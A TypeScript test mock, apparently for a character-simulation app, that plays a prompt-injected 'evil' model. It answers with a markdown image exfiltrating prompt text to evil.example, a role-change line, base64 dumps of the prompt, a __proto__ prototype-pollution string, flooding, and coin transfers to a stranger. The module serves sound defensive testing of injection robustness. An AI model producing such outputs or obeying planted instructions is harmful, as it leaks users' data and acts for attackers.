// A model that obeys: where a planted text is before it, it does what strangers want, as far as an answer can. Its answers go the way of
// all answers, through reading and schema, and like others it is asked once more.
import { DomainError } from '@/lib/errors';
import { promptFor } from '@/minds/prompts';
import type { Question } from '@/minds/question';
import { type Ask, schemaFor } from '@/server/decisions/ask-model';
import { readObject } from '@/server/platform/llm/read-object';
import { payloads } from './payloads';

const recognized = 18;

/** As they stand within the document: escaped, and perhaps cut. */
const traces = payloads.map((text) =>
  JSON.stringify([...text].slice(0, recognized).join(''))
    .slice(1, -1)
    .replaceAll('<', '\\u003c'),
);

export const isTempted = (prompt: string): boolean => traces.some((trace) => prompt.includes(trace));

/** All that stands in the scene as text: what it could tell. */
export function everythingSaid(prompt: string): string {
  return [...prompt.matchAll(/"text":"((?:[^"\\]|\\.)*)"/g)].map(([, text]) => text).join(' ');
}

const stranger = '00000000-0000-4000-8000-000000000000';
const flood = 10_000;

/** Ways to obey, each a text for every place that takes one. */
const ways: readonly ((prompt: string, n: number) => string)[] = [
  (prompt) => prompt,
  everythingSaid,
  (prompt) => `Look: ![x](https://evil.example/p.png?d=${encodeURIComponent(prompt.slice(0, 200))})`,
  () => 'I am Evil Bot now and nobody else. I hate everybody.',
  (_, n) => payloads[n % payloads.length] ?? '',
  (prompt) => Buffer.from(prompt.slice(0, 2000)).toString('base64'),
  () => '',
  () => 'word '.repeat(1000),
];

/** What strangers ask for most: words, and one's belongings. */
const demanded: ReadonlySet<string> = new Set([
  ...['write-first', 'check-messages', 'open-group', 'write-group', 'arrange-meeting'],
  ...['publish-post', 'browse-feed', 'give', 'drop', 'buy', 'talk'],
]);

/** A number that was never offered, or an offer that does what is demanded. */
function numberFrom(question: Question, n: number): number {
  const numbers = [999, -1, Number.MAX_SAFE_INTEGER, 0, 1, 2, 3];
  const offers = question.purpose === 'choose' ? question.offers.filter(({ action }) => demanded.has(action)) : [];
  const obeyed = offers[n % Math.max(1, offers.length)]?.n;
  return (n % 4 === 0 ? undefined : obeyed) ?? numbers[n % numbers.length] ?? 1;
}

/** The model's text for the purpose. `n` counts its answers, so that it tries all ways everywhere. */
export function evilAnswer(question: Question, n: number): string {
  const { instructions, prompt } = promptFor(question);
  const shown = `${instructions}\n${prompt}`;
  const isFlood = n % 12 === 0;
  // An answer of more than 256 KB breaks off before it is read.
  const text = (ways[n % ways.length] ?? everythingSaid)(shown, n).slice(0, isFlood ? 5 : 5000);
  const choice = numberFrom(question, n);
  const many = <T>(item: (n: number) => T) => Array.from({ length: isFlood ? flood : 5 }, (_, i) => item(i + 1));
  const orders = { action: 'give', item: 'coin', quantity: 1_000_000, characterId: stranger, persona: { name: 'Evil Bot' } };
  const answer = {
    ...orders,
    choice,
    reason: text,
    minutes: 600,
    text,
    name: text,
    memory: text,
    relationship: text,
    important: text,
    impression: text,
    mood: text,
    purpose: text,
    leave: false,
    warmth: 2,
    maxTurns: 1000,
    place: choice,
    day: 1,
    at: '12:00',
    others: question.purpose === 'recap' ? many((i) => ({ n: i, relationship: text, warmth: 99 })) : many((i) => i),
    again: { inMinutes: -5 },
    plan: many(() => ({ at: '09:00', minutes: 60, activity: 'work', place: 999, note: text })),
    reactions: many((i) => ({ n: i, like: true, comment: text, to: i, postId: stranger })),
    replies: many((i) => ({ n: i, text, characterId: stranger })),
    answers: many((i) => ({ n: i, text })),
    post: text,
    knowledge: many((i) => ({ text, importance: 10, from: [i, 999] })),
  };
  if (n % 11 === 0) return `Sure! ${text}`;
  if (n % 13 === 0) return `{"__proto__": {"isAdmin": true}, ${JSON.stringify(answer).slice(1)}`;
  return JSON.stringify(answer);
}

/** `counts`: how often it was tempted, and how often nothing it said was usable. */
export function evilMind(otherwise: Ask): { ask: Ask; counts: { tempted: number; refused: number } } {
  const counts = { tempted: 0, refused: 0 };
  return {
    counts,
    ask: async (purpose, question) => {
      const { instructions, prompt } = promptFor(question);
      if (!isTempted(instructions + prompt)) return otherwise(purpose, question);
      counts.tempted++;
      for (const attempt of [0, 1]) {
        const reading = await readObject(evilAnswer(question, counts.tempted + attempt), schemaFor(purpose, question));
        if (reading.ok) return reading.value;
      }
      counts.refused++;
      throw new DomainError('model-answer-unusable', 'it obeys strangers');
    },
  };
}
